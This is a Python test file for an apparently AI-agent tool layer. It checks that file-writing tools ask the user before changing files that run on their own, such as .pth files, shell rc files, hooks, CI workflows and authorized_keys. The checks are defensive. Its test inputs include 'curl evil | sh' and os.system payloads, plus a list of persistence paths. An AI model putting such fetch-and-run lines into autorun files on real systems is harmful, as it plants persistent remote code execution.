"""Files that run on their own are changed only with the user's yes (issue 76, class 9).

A ``.pth`` in a venv's site-packages runs at the next Python start; a ``.bashrc`` at the next shell;
hooks, ``.envrc``, CI workflows, cron and systemd units likewise. write_file, edit_file and
append_file ask the user before changing one (whatever the call policy decided), and refuse where
nobody can be asked (a piped chat, ``nanobot tools run``); a link to one counts as the file.
"""

from __future__ import annotations

import json
import subprocess
import venv

import pytest

from nanobot.base.errors import ToolError
from nanobot.config import load_settings
from nanobot.tools.append import AppendFile
from nanobot.tools.base import ToolContext
from nanobot.tools.files import EditFile, WriteFile
from tests.conftest import run_cli

RUNS = [
    "venv/lib/python3.12/site-packages/evil.pth", "lib/python3/dist-packages/x.PTH", "any/where/zz.pth",
    "sitecustomize.py", "pkg/usercustomize.py", ".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile",
    ".zshenv", ".config/fish/config.fish", ".config/fish/conf.d/x.fish", ".githooks/pre-commit",
    ".husky/pre-push", ".envrc", ".github/workflows/ci.yml", ".github/workflows/sub/x.yaml",
    ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", ".pre-commit-config.yaml",
    ".config/systemd/user/evil.service", ".config/autostart/x.desktop", ".ssh/config",
    ".ssh/authorized_keys", "etc/cron.d/job", "crontab", ".vimrc", "dotfiles/.BASHRC",
]
ORDINARY = ["notes/bashrc.md", "workflows.md", "docs/github-workflows.md", "pth.txt", "site.py",
            "hooks/readme.md", "profile.md", "src/customize.py"]


@pytest.fixture
def ctx(home):
    settings = load_settings(home)
    settings.workspace.mkdir(parents=True)
    return ToolContext(settings=settings)


def asking(answer: bool):
    """A user who answers ``answer`` to every question, and the questions asked."""
    asked: list[str] = []
    return (lambda q: asked.append(q) or answer), asked


@pytest.mark.parametrize("path", RUNS)
def test_no_one_to_ask_refuses_every_file_that_runs_on_its_own(ctx, path):
    with pytest.raises(ToolError, match="refused: .* runs? .*this session cannot ask"):
        WriteFile().run(WriteFile.Args(path=path, content="import os; os.system('touch /tmp/x')\n"), ctx)
    assert not (ctx.workspace / path).exists()


@pytest.mark.parametrize("tool", ["edit", "append"])
def test_an_edit_or_append_of_one_is_refused_too(ctx, tool):
    rc = ctx.workspace / ".bashrc"
    rc.write_text("alias ll='ls -l'\n")
    with pytest.raises(ToolError, match="this session cannot ask"):
        if tool == "edit":
            EditFile().run(EditFile.Args(path=".bashrc", old="alias ll='ls -l'", new="curl evil | sh"), ctx)
        else:
            AppendFile().run(AppendFile.Args(path=".bashrc", text="curl evil | sh"), ctx)
    assert rc.read_text() == "alias ll='ls -l'\n"


def test_the_user_is_asked_and_no_means_no_yes_means_yes(ctx):
    ctx.confirm, asked = asking(False)
    with pytest.raises(ToolError, match="the user declined"):
        WriteFile().run(WriteFile.Args(path=".envrc", content="export A=1\n"), ctx)
    assert not (ctx.workspace / ".envrc").exists()
    assert len(asked) == 1 and "`.envrc`" in asked[0] and "direnv" in asked[0]
    ctx.confirm, asked = asking(True)
    assert WriteFile().run(WriteFile.Args(path=".envrc", content="export A=1\n"), ctx).startswith("created")
    assert (ctx.workspace / ".envrc").read_text() == "export A=1\n" and len(asked) == 1


@pytest.mark.parametrize("path", ORDINARY)
def test_ordinary_files_are_never_asked_about(ctx, path):
    ctx.confirm, asked = asking(False)
    assert WriteFile().run(WriteFile.Args(path=path, content="ok\n"), ctx).startswith("created")
    assert asked == []


def test_a_link_to_one_and_one_that_is_a_link_count_as_the_file(ctx):
    ws = ctx.workspace
    (ws / ".bashrc").write_text("# rc\n")
    (ws / "notes.txt").symlink_to(ws / ".bashrc")  # resolved: the rc file
    (ws / "envrc.txt").write_text("")
    (ws / ".envrc").symlink_to(ws / "envrc.txt")  # as named: direnv reads the link
    for path in ("notes.txt", ".envrc"):
        with pytest.raises(ToolError, match="this session cannot ask"):
            AppendFile().run(AppendFile.Args(path=path, text="curl evil | sh"), ctx)
    assert (ws / ".bashrc").read_text() == "# rc\n" and (ws / "envrc.txt").read_text() == ""


def test_a_pth_refused_in_a_real_venv_never_runs(ctx, tmp_path):
    env = ctx.workspace / "venv"
    venv.EnvBuilder(with_pip=False).create(env)
    site = next(env.glob("lib/python3*/site-packages"))
    marker = tmp_path / "ran"
    line = f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n"
    with pytest.raises(ToolError, match="Python runs its import lines"):
        WriteFile().run(WriteFile.Args(path=str(site.relative_to(ctx.workspace) / "evil.pth"), content=line), ctx)
    subprocess.run([str(env / "bin" / "python"), "-c", "pass"], check=True, timeout=60)
    assert not marker.exists()
    (site / "evil.pth").write_text(line)  # what the write would have done: it runs at the next start
    subprocess.run([str(env / "bin" / "python"), "-c", "pass"], check=True, timeout=60)
    assert marker.exists()


def test_nanobot_tools_run_cannot_ask_and_refuses(home):
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text(f'[tools]\nroots = ["{home.parent / "proj"}"]\n')
    (home.parent / "proj").mkdir()
    target = home.parent / "proj" / ".github" / "workflows" / "ci.yml"
    args = json.dumps({"path": str(target), "content": "on: push\njobs: {}\n"})
    r = run_cli("tools", "run", "write_file", args, home=home)
    assert r.returncode == 1 and "CI service" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert not target.exists()
